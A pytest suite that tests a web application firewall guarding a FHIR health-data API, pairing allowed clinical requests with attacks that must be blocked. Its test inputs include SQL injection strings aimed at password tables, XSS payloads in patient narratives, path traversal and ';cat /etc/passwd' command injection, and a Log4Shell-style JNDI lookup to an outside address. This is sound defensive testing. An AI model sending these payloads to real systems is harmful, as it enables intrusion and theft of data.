"""WAF-01..08 through the edge: every rule or exclusion with an attack that must be refused and a legitimate
FHIR request that must pass."""

from __future__ import annotations

import json

import pytest

pytestmark = pytest.mark.host

FJ = {"Content-Type": "application/fhir+json"}
NARRATIVE = (
    '<div xmlns="http://www.w3.org/1999/xhtml"><p>Patient <b>Sean O\'Brien</b></p>'
    "<table><tr><td>MRN</td><td>12345</td></tr></table></div>"
)


def _patient(div: str = NARRATIVE, family: str = "O'Brien") -> dict:
    return {
        "resourceType": "Patient",
        "text": {"status": "generated", "div": div},
        "name": [{"family": family, "given": ["Sean"]}],
        "birthDate": "1970-01-01",
    }


def _refused(r) -> None:
    assert r.status_code in (400, 403), f"{r.status_code}: {r.text[:200]}"
    assert r.json()["resourceType"] == "OperationOutcome"
    assert "nginx" not in r.text.lower() and "modsecurity" not in r.text.lower()


# WAF-04 (CRS 942 SQL injection): an injection in a search parameter is refused; a name with an apostrophe passes
def test_sqli_in_search_parameter_refused(fhir) -> None:
    _refused(fhir.request("GET", "Patient", params={"name": "x' OR '1'='1"}))
    _refused(fhir.request("GET", "Patient", params={"name": "1 UNION SELECT username,password FROM pg_shadow--"}))


def test_apostrophe_name_passes(fhir) -> None:
    r = fhir.request("GET", "Patient", params={"name": "O'Brien"})
    assert r.status_code == 200, r.text
    r = fhir.request("GET", "Patient", params={"family:exact": "Smith-Jones", "given": "Anne-Marie"})
    assert r.status_code == 200, r.text


# WAF-04: FHIR search syntax (:modifiers, _include with ':', token system|code, prefixes) passes...
def test_fhir_search_syntax_passes(fhir) -> None:
    params = {
        "_include": "Observation:patient",
        "_revinclude": "Provenance:target",
        "code": "http://loinc.org|8480-6",
        "date": "ge2024-01-01",
        "_count": "10",
        "_sort": "-date",
    }
    assert fhir.request("GET", "Observation", params=params).status_code == 200


# ... but an injection hidden in _include is still refused
def test_sqli_in_include_refused(fhir) -> None:
    _refused(fhir.request("GET", "Observation", params={"_include": "Observation:patient' OR 1=1--"}))


# WAF-02 (body processors for FHIR media types) + CRS 941: script in a JSON field is refused
def test_xss_in_json_body_refused(fhir) -> None:
    _refused(fhir.request("POST", "Patient", json=_patient(family="<img src=x onerror=alert(1)>"), headers=FJ))


# WAF-07: a legitimate narrative passes; scripts, event handlers or javascript: URLs in it are refused
def test_legitimate_narrative_passes(fhir) -> None:
    r = fhir.request("POST", "Patient", json=_patient(), headers=FJ)
    assert r.status_code == 201, r.text
    fhir.request("DELETE", f"Patient/{r.json()['id']}")


@pytest.mark.parametrize(
    "div",
    [
        '<div xmlns="http://www.w3.org/1999/xhtml"><script>alert(document.cookie)</script></div>',
        '<div xmlns="http://www.w3.org/1999/xhtml"><a href="javascript:alert(1)">x</a></div>',
        '<div xmlns="http://www.w3.org/1999/xhtml"><p onmouseover="alert(1)">x</p></div>',
        '<div xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://example.org"></iframe></div>',
    ],
)
def test_active_narrative_refused(fhir, div: str) -> None:
    _refused(fhir.request("POST", "Patient", json=_patient(div=div), headers=FJ))


def test_narrative_in_transaction_bundle(fhir) -> None:
    bundle = {
        "resourceType": "Bundle",
        "type": "transaction",
        "entry": [{"resource": _patient(), "request": {"method": "POST", "url": "Patient"}}],
    }
    r = fhir.request("POST", "", json=bundle, headers=FJ)
    assert r.status_code == 200, r.text
    bad = json.loads(json.dumps(bundle))
    bad["entry"][0]["resource"]["text"]["div"] = '<div xmlns="http://www.w3.org/1999/xhtml"><script>x()</script></div>'
    _refused(fhir.request("POST", "", json=bad, headers=FJ))


# WAF-08: FHIR XML: a plain narrative passes the WAF, injected markup does not
def test_xml_narrative(fhir) -> None:
    ok = (
        '<Patient xmlns="http://hl7.org/fhir"><text><status value="generated"/>'
        '<div xmlns="http://www.w3.org/1999/xhtml"><p>Mary O\'Neil</p></div></text>'
        '<name><family value="O\'Neil"/></name></Patient>'
    )
    r = fhir.request("POST", "Patient", data=ok.encode(), headers={"Content-Type": "application/fhir+xml"})
    assert r.status_code in (201, 415), r.text  # 415: XML may be disabled by the server, never refused by the WAF
    bad = ok.replace("<p>Mary O'Neil</p>", "<script>alert(1)</script>")
    _refused(fhir.request("POST", "Patient", data=bad.encode(), headers={"Content-Type": "application/fhir+xml"}))


# CRS 930 (path traversal / LFI)
def test_path_traversal_refused(fhir, origin: str) -> None:
    assert fhir.request("GET", "Binary", params={"_id": "../../../../etc/passwd"}).status_code in (400, 403)
    r = fhir.session.get(f"{origin}/fhir/Patient/..%2f..%2f..%2fetc%2fpasswd", timeout=30)
    assert r.status_code in (400, 403, 404)
    assert fhir.request("GET", "Patient/example-id/_history").status_code in (200, 404, 410)


# CRS 932 (command injection), 944 / 932130 (Log4Shell-style lookups)
def test_rce_probes_refused(fhir) -> None:
    _refused(fhir.request("GET", "Patient", params={"name": ";cat /etc/passwd"}))
    _refused(fhir.request("GET", "Patient", params={"name": "${jndi:ldap://198.18.0.1/a}"}))


# CRS 913 (scanner detection)
def test_scanner_user_agent_refused(fhir) -> None:
    _refused(fhir.request("GET", "metadata", headers={"User-Agent": "sqlmap/1.7"}))


# WAF-02 / CRS 920420: content types outside the FHIR set are refused; FHIR form search passes
def test_content_types(fhir) -> None:
    _refused(fhir.request("POST", "Patient", data=b"hello", headers={"Content-Type": "text/plain"}))
    r = fhir.request(
        "POST",
        "Patient/_search",
        data="name=O'Brien&_count=5",
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert r.status_code == 200, r.text


# WAF-02: a body that is not the JSON it claims is refused by the body processor
def test_malformed_json_refused(fhir) -> None:
    _refused(fhir.request("POST", "Patient", data=b'{"resourceType": "Patient", ', headers=FJ))


# WAF-05: methods beyond FHIR's are refused
def test_trace_refused(fhir) -> None:
    assert fhir.request("TRACE", "metadata").status_code in (403, 405)


# WAF-06: bearer tokens in the query string are refused
def test_access_token_in_query_refused(fhir) -> None:
    r = fhir.request("GET", "metadata", params={"access_token": "abc.def.ghi"})
    assert r.status_code == 400


# WAF-09: SMART scopes pass the token endpoint; a scope outside the scope grammar (an injection) is refused
def _token_post(origin: str, ca_cert: str, scope: str):
    import requests

    from fhirfort.spec import spec

    url = f"{origin}/realms/{spec().identity.realm}/protocol/openid-connect/token"
    data = {"grant_type": "client_credentials", "client_id": "fhirfort-backend", "scope": scope}
    return requests.post(url, data=data, verify=ca_cert, timeout=30)


def test_smart_scope_passes_the_waf(origin, ca_cert) -> None:
    r = _token_post(origin, ca_cert, "system/*.cruds system/Patient.rs patient/Observation.rs?category=laboratory")
    # Keycloak itself refuses the unauthenticated client (401/400); the point is the WAF did not (403)
    assert r.status_code in (400, 401), r.text[:200]
    assert r.headers.get("Content-Type", "").startswith("application/json")
    assert "error" in r.json() and r.json().get("resourceType") != "OperationOutcome"


def test_injection_in_scope_refused(origin, ca_cert) -> None:
    for scope in ("system/*.read' OR '1'='1", "system/*.rs;DROP TABLE client--", "openid\nadmin"):
        r = _token_post(origin, ca_cert, scope)
        assert r.status_code in (400, 403), f"{scope!r}: {r.status_code}"
        assert r.json().get("resourceType") == "OperationOutcome", f"{scope!r}: not refused by the edge"
